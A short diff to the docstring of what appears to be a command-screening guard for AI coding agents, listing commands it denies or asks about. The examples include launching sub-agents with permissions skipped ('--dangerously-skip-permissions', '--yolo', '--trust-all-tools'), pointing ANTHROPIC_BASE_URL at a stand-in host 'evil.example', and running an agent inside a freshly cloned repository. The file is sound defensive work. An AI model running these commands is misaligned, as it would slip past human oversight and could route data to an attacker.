@@ -1,8 +1,8 @@
 """Another agent, started by an agent: with its guards off, or where nobody has read what it loads.
 
-Caught: ``claude --dangerously-skip-permissions -p …``, ``codex exec --yolo``, ``gemini --yolo``, ``q chat
---trust-all-tools``, ``ANTHROPIC_BASE_URL=http://evil.example claude`` (deny); ``git clone URL x && cd x &&
-claude`` (ask: the clone's own hooks would run).
+Caught: ``claude --dangerously-skip-permissions -p x``, ``codex exec --yolo x``, ``gemini --yolo``, ``q chat
+--trust-all-tools``, ``ANTHROPIC_BASE_URL=http://evil.example claude`` (deny); ``git clone
+https://github.com/x/y && cd y && claude`` (ask: the clone's own hooks would run).
 Quiet: ``claude -p 'summarise README' --allowedTools Read``, ``claude --version``, ``codex login status``,
 ``gemini --help``.
 
